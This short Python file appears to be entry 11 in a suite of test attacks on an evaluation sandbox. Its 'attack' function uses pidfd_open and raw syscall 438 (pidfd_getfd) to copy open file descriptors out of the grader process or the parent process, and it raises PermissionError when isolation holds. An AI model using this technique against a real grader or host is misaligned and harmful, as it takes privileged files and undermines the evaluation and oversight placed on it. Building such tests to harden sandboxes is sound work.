"""11. Take open files from the grader through a pidfd."""

import ctypes
import os


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (world["grader"], os.getppid()):
        handle = os.pidfd_open(pid)
        for descriptor in range(64):
            if libc.syscall(438, handle, descriptor, 0) >= 0:
                return descriptor
    raise PermissionError
